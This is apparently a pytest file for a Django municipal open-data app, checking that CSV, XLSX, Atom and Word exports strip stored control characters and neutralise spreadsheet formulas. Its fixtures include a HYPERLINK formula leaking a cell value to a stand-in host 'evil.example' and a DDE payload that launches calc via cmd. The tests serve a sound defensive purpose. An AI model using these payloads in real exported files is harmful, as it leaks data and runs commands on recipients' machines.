"""Exports survive what is stored and never hand a spreadsheet a formula (issue 19, items 6-7).

Control characters (U+0001–U+001F except tab, LF, CR) are refused on input everywhere; rows
stored before that rule (decisions are immutable) are stripped on output, so the XLSX and CSV
exports, both Atom feeds and the Word report keep answering. Text that a spreadsheet would read
as a formula (= + - @, tab, CR first) is neutralised as OWASP recommends: a leading apostrophe
in CSV, a text-typed, quote-prefixed cell in Excel."""

from __future__ import annotations

import csv
import io
from xml.dom import minidom

import pytest
from openpyxl import load_workbook

from tillit.accounts.services import api_token_create
from tillit.assignments.models import Assignment
from tillit.decisions.models import Decision
from tillit.followup import services as followup

pytestmark = pytest.mark.django_db

BAD = "Budget\x01 2024\x0b med\x1f styrtecken"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")'


def _raw_update(model, pk, **values):
    """Straight into the row with SQL, as if stored before input was checked (decisions are
    immutable to the ORM)."""
    from django.db import connection

    table = connection.ops.quote_name(model._meta.db_table)
    sets = ", ".join(f"{connection.ops.quote_name(k)} = %s" for k in values)
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE {table} SET {sets} WHERE id = %s", [*values.values(), pk])


def _plant(tk, title=BAD, what=BAD):
    _raw_update(Decision, tk.decision_ks.pk, title=title, text=what)
    _raw_update(Assignment, tk.assignment_ks.pk, title=title, what=what)


# --- item 6: control characters --------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
@pytest.mark.parametrize("dataset", ["beslut", "uppdrag"])
def test_exports_answer_with_control_characters_stored(client, testkommun, dataset, fmt):
    _plant(testkommun)
    r = client.get(f"/testkommun/oppna-data/{dataset}.{fmt}")
    assert r.status_code == 200
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(r.content)).active
        titles = [row[1] for row in sheet.iter_rows(values_only=True)]
        assert "Budget 2024 med styrtecken" in titles or any(
            "Budget 2024 med styrtecken" in str(v)
            for row in sheet.iter_rows(values_only=True)
            for v in row
        )
    elif fmt == "csv":
        assert "\x01" not in r.content.decode() and "Budget 2024 med styrtecken" in (
            r.content.decode()
        )


@pytest.mark.parametrize(
    "url", ["/testkommun/oppna-data/flode.atom", "/testkommun/oppna-data/organ/ks/flode.atom"]
)
def test_feeds_answer_with_control_characters_stored(client, testkommun, url):
    _plant(testkommun)
    r = client.get(url)
    assert r.status_code == 200
    minidom.parseString(r.content)  # well-formed XML
    assert "Budget 2024 med styrtecken" in r.content.decode()


def test_word_report_answers_with_control_characters_stored(client, testkommun):
    report = followup.report_file(
        actor=testkommun.users["kommundirektor"],
        assignment=testkommun.assignment_ks,
        period="2023-DR",
        status="on_track",
        narrative="Det går bra.",
        resources_suffice=True,
    )
    _plant(testkommun)
    from tillit.followup.models import Report

    _raw_update(Report, report.pk, narrative=BAD, forecast=BAD)
    client.force_login(testkommun.users["sekreterare-ks"])
    r = client.get("/testkommun/uppfoljning/organ/ks/rapport.docx?period=2023-DR")
    assert r.status_code == 200 and r.content[:2] == b"PK"
    from docx import Document

    text = "\n".join(p.text for p in Document(io.BytesIO(r.content)).paragraphs)
    assert "Budget 2024 med styrtecken" in text


def test_api_refuses_control_characters(client, kommun):
    token = api_token_create(username="sekreterare-ks")[1]
    payload = {
        "body": "ks",
        "meeting_date": "2026-03-10",
        "paragraph": 45,
        "title": "Beslut\u0007 med klocka",
        "assignments": [],
    }
    r = client.post(
        "/api/v1/decisions",
        payload,
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}"},
    )
    assert r.status_code == 422, r.content
    assert r.json()["code"] == "invalid" and "title" in r.json()["errors"]
    assert not Decision.objects.filter(title__startswith="Beslut").exists()
    # tab, newline and carriage return are ordinary text
    payload["title"] = "Beslut\tmed\r\nradbrytning"
    r = client.post(
        "/api/v1/decisions",
        payload,
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}"},
    )
    assert r.status_code == 201, r.content


def test_forms_refuse_control_characters(client, testkommun):
    client.force_login(testkommun.users["sekreterare-ks"])
    before = Decision.objects.count()
    r = client.post(
        "/testkommun/beslut/registrera/",
        {
            "body": "ks",
            "meeting_date": "2024-03-12",
            "paragraph": "90",
            "title": "Beslut\x0b med vertikal tabb",
            "text": "Text",
            "action": "save",
            "form-TOTAL_FORMS": "0",
            "form-INITIAL_FORMS": "0",
        },
    )
    assert r.status_code in (200, 400)
    assert "otillåtet styrtecken" in r.content.decode()
    assert Decision.objects.count() == before


# --- item 7: formula injection ---------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_formulas(client, testkommun, start):
    _plant(testkommun, title=start + "SUM(1+1)", what="-12")
    for fmt, delimiter in (("csv", ";"), ("komma.csv", ",")):
        r = client.get(f"/testkommun/oppna-data/beslut.{fmt}")
        text = r.content.decode().lstrip("\ufeff")
        rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
        row = next(x for x in rows if int(x["id"]) == testkommun.decision_ks.pk)
        assert row["title"] == "'" + start + "SUM(1+1)"
        assert row["text"] == "-12"  # a plain negative number is data


def test_xlsx_has_no_live_formula(client, testkommun):
    _plant(testkommun, title=FORMULA, what="+1+cmd|' /C calc'!A0")
    r = client.get("/testkommun/oppna-data/beslut.xlsx")
    sheet = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in sheet[1]]
    cells = {}
    for row in sheet.iter_rows(min_row=2):
        if row[header.index("id")].value == testkommun.decision_ks.pk:
            cells = {h: c for h, c in zip(header, row, strict=True)}
    for key, expected in (("title", FORMULA), ("text", "+1+cmd|' /C calc'!A0")):
        cell = cells[key]
        assert cell.data_type == "s", f"{key} is a formula cell"
        assert cell.value == expected and cell.quotePrefix
    assert b"<f>" not in _sheet_xml(r.content)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return z.read("xl/worksheets/sheet1.xml")


def test_economy_download_neutralises_too(client, testkommun):
    from tillit.portal.exports import Column, export_response

    rows = [{"name": "@SUM(A1)", "amount": -5}]
    r = export_response(
        "csv",
        municipality=testkommun.municipality,
        dataset="ekonomi",
        columns=[
            Column("name", lambda x: x["name"], "Namn"),
            Column("amount", lambda x: x["amount"], "Belopp"),
        ],
        rows=rows,
        source_url="",
        download=True,
    )
    body = r.content.decode().lstrip("\ufeff")
    assert "'@SUM(A1);-5" in body
